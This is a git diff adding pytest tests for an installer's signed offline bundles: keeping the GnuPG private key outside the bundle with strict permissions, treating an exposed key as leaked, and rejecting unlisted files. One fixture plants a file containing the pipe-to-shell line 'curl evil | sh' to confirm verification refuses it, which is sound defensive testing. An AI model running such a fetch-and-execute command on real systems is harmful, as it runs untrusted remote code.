@@ -8,8 +8,11 @@ from __future__ import annotations
 
 import hashlib
 import json
+import os
 import shutil
+import stat
 import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -19,7 +22,9 @@ from click.testing import CliRunner
 from installer.bundle import BuildOptions, build, diff, verify
 from installer.bundle import apt as bundle_apt
 from installer.bundle import images as bundle_images
-from installer.bundle.model import BundleError, Manifest
+from installer.bundle.keys import BundleKey, short_home, stop_agent
+from installer.bundle.model import BundleError, FileEntry, Manifest
+from installer.bundle.tools import sha256_file
 from installer.cli.bundle import bundle as bundle_cli
 from installer.release import RELEASES_DIR, Release, load_release
 from installer.validation import validate_document
@@ -28,6 +33,7 @@ from installer.yamlpos import load_yaml_file
 pytestmark = pytest.mark.skipif(shutil.which("gpg") is None or shutil.which("gpgv") is None, reason="needs gpg")
 
 PAYLOAD = b"#!/bin/sh\necho kubectl-stand-in\n" * 100
+ROOT = Path(__file__).resolve().parents[2]
 
 
 def _release_file(directory: Path, version: str, sha: str, extra: dict | None = None) -> Path:
@@ -63,26 +69,31 @@ def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     return tmp_path / "home"
 
 
-@pytest.fixture
-def small(tmp_path: Path, home: Path) -> tuple[Path, Release, BuildOptions]:
-    """A complete bundle of a release with one binary taken from --from-dir (offline)."""
+def _small_bundle(tmp_path: Path, out: Path, key_home: Path | None = None) -> tuple[Path, Release, BuildOptions]:
     src = tmp_path / "from"
-    src.mkdir()
+    src.mkdir(exist_ok=True)
     (src / "tool").write_bytes(PAYLOAD)
     releases = tmp_path / "releases"
-    releases.mkdir()
+    releases.mkdir(exist_ok=True)
     release = _load(_release_file(releases, "t-1", hashlib.sha256(PAYLOAD).hexdigest()))
     opts = BuildOptions(
-        out=tmp_path / "bundle",
+        out=out,
         os_families=["debian-12"],
         from_dir=src,
         online=False,
         packages=False,
         releases_dir=releases,
+        key_home=key_home,
     )
     result = build(release, opts)
     assert result.complete, result.manifest.missing
     return opts.out, release, opts
+
+
+@pytest.fixture
+def small(tmp_path: Path, home: Path) -> tuple[Path, Release, BuildOptions]:
+    """A complete bundle of a release with one binary taken from --from-dir (offline)."""
+    return _small_bundle(tmp_path, tmp_path / "bundle")
 
 
 def _problems(bundle: Path) -> list[str]:
@@ -216,6 +227,147 @@ def test_an_os_family_the_release_does_not_support_is_an_error(small):
 
     with pytest.raises(BundleError, match=r"supports debian-12, not ubuntu-22\.04"):
         build(release, BuildOptions(out=opts.out, os_families=["ubuntu-22.04"], packages=False))
+
+
+# ----------------------------------------------------------------------------- the private key
+
+
+def _private_key_paths(root: Path) -> list[str]:
+    """What `find` would show of a private key below root: GnuPG homes, secret keys, secrings."""
+    return sorted(
+        p.relative_to(root).as_posix()
+        for p in root.rglob("*")
+        if p.name in {"private-keys-v1.d", "gnupg", "secring.gpg"} or p.suffix == ".key"
+    )
+
+
+def _modes(root: Path) -> dict[str, str]:
+    found = {".": oct(stat.S_IMODE(root.stat().st_mode))}
+    for path in root.rglob("*"):
+        if path.is_dir() or path.is_file():
+            found[path.relative_to(root).as_posix()] = oct(stat.S_IMODE(path.stat().st_mode))
+    return found
+
+
+def test_the_private_key_is_kept_in_a_private_store_outside_the_bundle(tmp_path, home):
+    """Built where `aicloud install` looks for it ($AICLOUD_HOME/bundles/<release>), with a loose umask."""
+    out = home / "bundles" / "t-1"
+    previous = os.umask(0o022)
+    try:
+        _, release, opts = _small_bundle(tmp_path, out)
+    finally:
+        os.umask(previous)
+    assert _private_key_paths(out) == []
+    store = home / "keys" / "t-1" / "gnupg"
+    assert list((store / "private-keys-v1.d").glob("*.key"))
+    for folder in (home / "keys", home / "keys" / "t-1"):
+        assert oct(stat.S_IMODE(folder.stat().st_mode)) == "0o700", folder
+    modes = _modes(store)
+    dirs = {rel: mode for rel, mode in modes.items() if (store / rel).is_dir()}
+    files = {rel: mode for rel, mode in modes.items() if (store / rel).is_file()}
+    assert set(dirs.values()) == {"0o700"}, dirs
+    assert files and set(files.values()) == {"0o600"}, files
+    for public in ("bundle.json.asc", "keys/aicloud-bundle.gpg"):  # gpg's umask stays in the store
+        assert oct(stat.S_IMODE((out / public).stat().st_mode)) == "0o644", public
+    # A rebuild signs with the same key.
+    first = Manifest.read(out).key_fingerprint
+    assert build(release, opts).manifest.key_fingerprint == first and verify(out).ok
+
+
+def test_a_key_home_inside_the_bundle_is_refused(tmp_path, home):
+    with pytest.raises(BundleError, match=r"is inside the bundle .* served to the whole site"):
+        _small_bundle(tmp_path, tmp_path / "bundle", key_home=tmp_path / "bundle" / "keys-here")
+    assert not (tmp_path / "bundle" / "keys-here").exists()
+
+
+def _old_layout(out: Path) -> str:
+    """Turn a bundle into what older builds made at $AICLOUD_HOME/bundles/<release>: the key's
+    GnuPG home in `gnupg/`, listed in bundle.json, signed. Returns the key's fingerprint."""
+    store = out.parents[1] / "keys" / "t-1" / "gnupg"
+    stop_agent(store)
+    shutil.move(store, out / "gnupg")
+    manifest = Manifest.read(out)
+    for path in (out / "gnupg").rglob("*"):
+        if path.is_file():
+            manifest.files[path.relative_to(out).as_posix()] = FileEntry(path.stat().st_size, sha256_file(path))
+    (out / "bundle.json").write_text(manifest.to_json())
+    (out / "bundle.json.asc").unlink()
+    key = BundleKey(short_home(out / "gnupg"), manifest.key_fingerprint)
+    key.detach_sign(out / "bundle.json", out / "bundle.json.asc")
+    stop_agent(out / "gnupg")
+    return manifest.key_fingerprint
+
+
+def test_an_old_bundle_with_its_key_inside_is_refused_by_verify_and_moved_out_by_build(tmp_path, home):
+    out = home / "bundles" / "t-1"
+    _, release, opts = _small_bundle(tmp_path, out)
+    old = _old_layout(out)
+    keyfile = next((out / "gnupg" / "private-keys-v1.d").glob("*.key")).relative_to(out).as_posix()
+    assert f"{keyfile}: private key material: a bundle never carries one" in " ".join(_problems(out))
+    # The build takes the key out of the bundle at once, and refuses: that key was served.
+    with pytest.raises(BundleError, match=r"Treat that key as leaked") as refused:
+        build(release, opts)
+    assert "aicloud install --phase bundle" in str(refused.value)
+    assert not (out / "gnupg").exists() and _private_key_paths(out) == []
+    (aside,) = (home / "keys" / "t-1").glob("exposed-*")
+    assert set(_modes(aside).values()) <= {"0o700", "0o600"}
+    assert list((aside / "gnupg" / "private-keys-v1.d").glob("*.key"))
+    assert not (home / "keys" / "t-1" / "gnupg").exists()
+    # The next build signs with a new key, and the bundle verifies again.
+    again = build(release, opts)
+    assert again.complete and again.manifest.key_fingerprint != old
+    assert verify(out).ok and _private_key_paths(out) == []
+
+
+def test_the_old_default_key_home_outside_any_bundle_is_moved_into_the_store(tmp_path, home):
+    """Builds to another --out kept the key at $AICLOUD_HOME/bundles/<release>/gnupg, never served: keep it."""
+    old_home = home / "bundles" / "t-1" / "gnupg"
+    _, release, opts = _small_bundle(tmp_path, tmp_path / "bundle", key_home=old_home)
+    old = Manifest.read(opts.out).key_fingerprint
+    opts.key_home = None
+    again = build(release, opts)
+    assert again.manifest.key_fingerprint == old
+    assert not old_home.exists() and (home / "keys" / "t-1" / "gnupg" / "private-keys-v1.d").is_dir()
+    assert any("moved from" in note for note in again.notes)
+
+
+def test_verify_refuses_every_file_not_in_the_manifest_by_name(small):
+    out, _, _ = small
+    (out / "notes.txt").write_text("left here by hand\n")
+    (out / "files" / "link").symlink_to(out / "SHA256SUMS")
+    os.mkfifo(out / "files" / "pipe")
+    assert _problems(out) == [
+        "files/link: extra symbolic link, not in bundle.json",
+        "files/pipe: extra special file (socket, FIFO or device), not in bundle.json",
+        "notes.txt: extra file, not in bundle.json",
+    ]
+
+
+def _entry_point(*args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "installer.bundle", *args], capture_output=True, text=True, cwd=ROOT, timeout=120
+    )
+
+
+def test_the_face_free_entry_point_refuses_an_extra_file_with_exit_2_naming_it(small):
+    out, _, _ = small
+    ok = _entry_point("verify", "--quiet", str(out))
+    assert (ok.returncode, ok.stdout, ok.stderr) == (0, "", "")
+    (out / "files" / "tool" / "amd64" / "evil.sh").write_text("curl evil | sh\n")
+    refused = _entry_point("verify", "--quiet", str(out))
+    assert refused.returncode == 2
+    assert refused.stderr.splitlines() == ["refused: files/tool/amd64/evil.sh: extra file, not in bundle.json"]
+    assert _entry_point("verify", str(out / "nowhere")).returncode == 2
+
+
+def test_the_face_free_entry_point_loads_no_face():
+    code = (
+        "import sys, runpy; sys.argv = ['x', '--help']\n"
+        "try:\n    runpy.run_module('installer.bundle', run_name='__main__')\nexcept SystemExit:\n    pass\n"
+        "print(sorted({m.split('.')[0] for m in sys.modules} & {'click', 'rich', 'textual'}))"
+    )
+    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=120)
+    assert result.stdout.strip().endswith("[]"), result.stdout + result.stderr
 
 
 # ----------------------------------------------------------------------------- the full release here
